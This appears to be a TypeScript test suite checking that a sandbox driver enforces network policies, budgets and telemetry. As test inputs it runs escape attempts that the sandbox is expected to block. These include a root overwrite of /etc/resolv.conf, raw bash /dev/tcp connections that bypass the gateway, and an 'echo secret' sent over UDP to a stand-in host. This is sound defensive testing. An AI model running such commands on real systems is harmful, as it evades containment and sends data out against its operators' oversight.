import { readFileSync } from "node:fs";
import type { Telemetry } from "@ale/core";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { OciDriver } from "../src/index.ts";
import {
  about,
  allowing,
  fakeWorld,
  get,
  links,
  NONE,
  networkObstacle,
  networkSpec,
  networkSuite,
  policy,
  type World,
} from "./network-support.ts";
import { until } from "./support.ts";

describe.skipIf(networkObstacle)(networkSuite("sandboxes have the network of their spec"), () => {
  let world: World;
  let driver: OciDriver;
  const records: Telemetry[] = [];

  beforeAll(async () => {
    world = await fakeWorld();
    const modelGateway = { host: "127.0.0.1", port: world.webPort };
    driver = new OciDriver({ egress: { upstream: world.upstream, modelGateway } });
    await driver.onNetwork((record) => records.push(record));
  });

  afterAll(async () => {
    await driver[Symbol.asyncDispose]();
    await world[Symbol.asyncDispose]();
  });

  it("says which modes it can enforce", async () => {
    const { network, weaker } = await driver.capabilities();
    expect(network).toEqual(["none", "allowlist", "gateway-only", "open"]);
    expect(weaker.map(({ what }) => what)).not.toContain("network");
  });

  it("none: there is no interface, and no resolver", async () => {
    await using box = await driver.create(networkSpec(NONE));
    expect(await links(box)).toEqual([]);
    expect(await get(box, "files.test")).toBe("");
    expect((await box.exec({ argv: ["cat", "/etc/resolv.conf"] })).stdout).toBe("");
  });

  it("allowlist: a name that is allowed is reached, another one is not even known", async () => {
    await using box = await driver.create(networkSpec(allowing("files.test")));
    expect(await get(box, "files.test")).toContain("hello from files.test");
    const before = world.dialled.length;
    expect(await get(box, "evil.test")).toBe("");
    expect(world.dialled.length).toBe(before);
    expect(about(records, box, "dns.query").at(-1)).toMatchObject({
      dns: { name: "evil.test", allowed: false },
    });
  });

  it("the first program that runs has it", async () => {
    const boxes = await Promise.all(
      Array.from({ length: 4 }, () => driver.create(networkSpec(allowing("files.test")))),
    );
    const answers = await Promise.all(boxes.map((box) => get(box, "files.test")));
    expect(answers.every((answer) => answer.includes("hello from files.test"))).toBe(true);
    await Promise.all(boxes.map((box) => box.destroy()));
  });

  it("names are asked of the gateway, and nobody inside can change that", async () => {
    await using box = await driver.create(networkSpec(allowing("files.test")));
    const spoil = "echo nameserver 8.8.8.8 > /etc/resolv.conf; rm -f /etc/resolv.conf; cat /etc/resolv.conf";
    const { stdout } = await box.exec({ argv: ["sh", "-c", spoil], user: "root" });
    expect(stdout).toMatch(/^nameserver 198\.19\.\d+\.\d+\n$/);
    const { snapshot } = await box.snapshot();
    expect((await driver.snapshots.diff(null, snapshot.id)).map(({ path }) => path)).not.toContain(
      "/etc/resolv.conf",
    );
  });

  it("gateway-only: the model gateway is reached by its name, on its port, and nothing else", async () => {
    await using box = await driver.create(networkSpec(policy({ mode: "gateway-only" })));
    expect(await get(box, "model-gateway.ale.internal")).toContain("hello from model-gateway.ale.internal");
    expect(world.dialled.at(-1)).toBe(`127.0.0.1:${world.webPort}`);
    const before = world.dialled.length;
    expect(await get(box, "files.test")).toBe("");
    expect(await get(box, "127.0.0.1")).toBe("");
    await box.exec({
      argv: ["bash", "-c", "exec 3<>/dev/tcp/model-gateway.ale.internal/443; echo x >&3; cat <&3"],
    });
    expect(world.dialled.length).toBe(before);
  });

  it("allowlist: the model gateway only where a rule names it itself", async () => {
    await using wide = await driver.create(networkSpec(allowing("*.ale.internal")));
    expect(await get(wide, "model-gateway.ale.internal")).toBe("");
    await using named = await driver.create(networkSpec(allowing("model-gateway.ale.internal")));
    expect(await get(named, "model-gateway.ale.internal")).toContain("hello from");
  });

  it("open: every name is reached, private networks are not", async () => {
    await using box = await driver.create(networkSpec(policy({ mode: "open" })));
    expect(await get(box, "anything.test")).toContain("hello from anything.test");
    const before = world.dialled.length;
    expect(await get(box, "inside.test")).toBe("");
    expect(await get(box, "10.0.0.5")).toBe("");
    expect(world.dialled.length).toBe(before);
  });

  it("another sandbox is not reached, whatever the mode", async () => {
    await using one = await driver.create(networkSpec(policy({ mode: "open" })));
    await using other = await driver.create(networkSpec(policy({ mode: "open" })));
    const { stdout } = await other.exec({ argv: ["cat", "/proc/net/fib_trie"] });
    const address = /32 host LOCAL/.test(stdout) ? stdout.match(/198\.19\.\d+\.\d+/g)!.at(-1)! : "";
    expect(address).toMatch(/^198\.19\./);
    expect(await get(one, address)).toBe("");
    await until("it is told", () => about(records, one, "net.deny").length > 0);
    expect(about(records, one, "net.deny")[0]).toMatchObject({ net: { rule: "sandbox" } });
  });

  describe("a policy that changes while the sandbox runs", () => {
    it("follows from mode to mode, and every change is told", async () => {
      await using box = await driver.create(networkSpec(allowing("install.test")));
      expect(await get(box, "install.test")).toContain("hello");
      await box.setNetwork(allowing("agent.test"));
      expect(await get(box, "install.test")).toBe("");
      expect(await get(box, "agent.test")).toContain("hello");
      await box.setNetwork(NONE);
      expect(await links(box)).toEqual([]);
      expect(await get(box, "agent.test")).toBe("");
      await box.setNetwork(policy({ mode: "gateway-only" }));
      expect(await get(box, "model-gateway.ale.internal")).toContain("hello");
      expect(about(records, box, "policy.change").map(({ tool }) => tool?.command)).toEqual([
        "allowlist agent.test:80,443",
        "none",
        "gateway-only",
      ]);
      expect(box.spec.network.mode).toBe("gateway-only");
    });

    it("plugs a sandbox in that began without", async () => {
      await using box = await driver.create(networkSpec(NONE));
      await box.setNetwork(allowing("files.test"));
      expect(await links(box)).toEqual(["eth0"]);
      expect(await get(box, "files.test")).toContain("hello from files.test");
    });

    it("leaves open connections alone, or ends them where that is asked", async () => {
      const mail = policy({ mode: "allowlist", hosts: [{ name: "mail.test", ports: [25] }] });
      await using box = await driver.create(networkSpec(mail));
      const open = `exec 3<>/dev/tcp/mail.test/25; head -1 <&3; echo ready; read -r _ <&3; echo "ended $?"`;
      const talk = await box.start({ argv: ["bash", "-c", open], timeoutMs: 60_000 });
      let said = "";
      const reading = (async () => {
        for await (const chunk of talk.stdout) said += Buffer.from(chunk).toString();
      })();
      await until("it is connected", () => said.includes("ready"));
      await box.setNetwork(allowing("files.test"));
      await get(box, "files.test");
      expect(said).not.toContain("ended");
      await box.setNetwork(allowing("files.test"), { endOpen: true });
      await reading;
      expect(said).toContain("ended 1");
    });
  });

  it("a snapshot, a revert and a fork have the policy of their time, and an address of their own", async () => {
    await using box = await driver.create(networkSpec(allowing("one.test")));
    const { snapshot } = await box.snapshot();
    expect(await get(box, "one.test")).toContain("hello");
    await box.setNetwork(allowing("two.test"));
    await box.revert(snapshot.id);
    expect(await get(box, "two.test")).toContain("hello");
    expect(await get(box, "one.test")).toBe("");
    const [fork, closed] = [
      ...(await driver.snapshots.fork(snapshot.id, 1)),
      ...(await driver.snapshots.fork(snapshot.id, 1, { network: NONE })),
    ];
    expect(await get(fork!, "one.test")).toContain("hello");
    expect(await links(closed!)).toEqual([]);
    const resolvers = await Promise.all(
      [box, fork!].map(async (one) => (await one.exec({ argv: ["cat", "/etc/resolv.conf"] })).stdout),
    );
    expect(resolvers[0]).not.toBe(resolvers[1]);
    await Promise.all([fork!.destroy(), closed!.destroy()]);
  });

  it("an allowlist that is the open network under another name is refused, begun or later", async () => {
    const wide = policy({ mode: "allowlist", addresses: [{ network: "0.0.0.0/1", ports: [443] }] });
    const refused = { code: "network-too-wide", next: expect.stringContaining('mode "open"') };
    await expect(driver.create(networkSpec(wide))).rejects.toMatchObject(refused);
    await using box = await driver.create(networkSpec(allowing("files.test")));
    await expect(box.setNetwork(allowing("*.com"))).rejects.toMatchObject(refused);
    expect(box.spec.network).toEqual(allowing("files.test"));
  });

  it("an address that cannot be reached is refused when it is asked for, not when it fails", async () => {
    const addresses = [{ network: "2001:db8::/32", ports: [443] }];
    const wish = policy({ mode: "allowlist", hosts: [{ name: "files.test" }], addresses });
    await expect(driver.create(networkSpec(wish))).rejects.toMatchObject({
      code: "network-unsupported",
      message: expect.stringContaining("2001:db8::/32 cannot be allowed: sandboxes have IPv4 only"),
    });
  });

  it("a restart gives nothing of the budget back", async () => {
    const budget = { connections: 3 };
    const spec = networkSpec(policy({ mode: "allowlist", hosts: [{ name: "files.test" }], budget }));
    await using box = await driver.create(spec);
    expect(await get(box, "files.test")).toContain("hello");
    expect(await get(box, "files.test")).toContain("hello");
    await box.snapshot();
    expect(await get(box, "files.test")).toContain("hello");
    expect(await get(box, "files.test")).toContain("connections is used up: 3 of 3");
    await until("it is told", () => about(records, box, "net.deny").length > 0);
    expect(about(records, box, "net.deny")[0]).toMatchObject({ net: { rule: "budget" } });
  });

  it("requests are counted where HTTP is plain, each of a connection", async () => {
    const budget = { requests: 2 };
    const spec = networkSpec(policy({ mode: "allowlist", hosts: [{ name: "count.test" }], budget }));
    await using box = await driver.create(spec);
    const ask = `printf 'GET / HTTP/1.1\\r\\nHost: count.test\\r\\n\\r\\n' >&3; timeout 5 grep -m1 hello <&3`;
    const script = `exec 3<>/dev/tcp/count.test/80; ${ask}; ${ask}; ${ask}`;
    const { stdout } = await box.exec({ argv: ["bash", "-c", script] });
    expect(stdout.match(/hello from count.test/g)).toHaveLength(2);
    await until("it is told", () => about(records, box, "net.deny").length > 0);
    expect(about(records, box, "net.deny")[0]).toMatchObject({
      net: { rule: "budget", host: "count.test" },
    });
  });

  it("what is tried is told by the sandbox itself", async () => {
    await using box = await driver.create(networkSpec(allowing("files.test")));
    const told: Telemetry[] = [];
    using _listening = box.onTelemetry((record) => told.push(record), { sources: ["proxy", "dns", "nflog"] });
    await get(box, "evil.test");
    await get(box, "198.51.100.7");
    await box.exec({ argv: ["bash", "-c", "echo secret > /dev/udp/198.51.100.7/9000"] });
    await box.drainTelemetry();
    const kinds = told.map(({ kind, net, dns }) => [kind, dns?.name ?? net?.protocol]);
    expect(kinds).toContainEqual(["dns.query", "evil.test"]);
    expect(kinds).toContainEqual(["net.deny", "tcp"]);
    expect(kinds).toContainEqual(["net.deny", "udp"]);
  });

  it("a pool's sandboxes are plugged in before they are taken", async () => {
    await using pool = driver.pool(networkSpec(allowing("files.test")), { size: 1 });
    await pool.filled();
    await using box = await pool.take();
    expect(await get(box, "files.test")).toContain("hello from files.test");
  });

  it("nothing of it is left on the host", async () => {
    const cables = (): string[] =>
      readFileSync("/proc/net/dev", "utf8").match(/^\s*(?:ale\d+|eth0@?\w*):/gm) ?? [];
    const before = cables();
    const box = await driver.create(networkSpec(allowing("files.test")));
    await box.destroy();
    expect(cables()).toEqual(before);
  });
});

describe.skipIf(networkObstacle)(networkSuite("a driver without a model gateway"), () => {
  it("refuses what would need one, and says what to do", async () => {
    await using driver = new OciDriver();
    const asked = [policy({ mode: "gateway-only" }), allowing("model-gateway.ale.internal")];
    for (const network of asked)
      await expect(driver.create(networkSpec(network))).rejects.toMatchObject({
        code: "network-unsupported",
        next: expect.stringContaining("--model-gateway"),
      });
    expect((await driver.capabilities()).network).toEqual(["none", "allowlist", "open"]);
    await using box = await driver.create(networkSpec(NONE));
    await expect(box.setNetwork(policy({ mode: "gateway-only" }))).rejects.toMatchObject({
      code: "network-unsupported",
    });
    expect(box.spec.network).toEqual(NONE);
  });
});
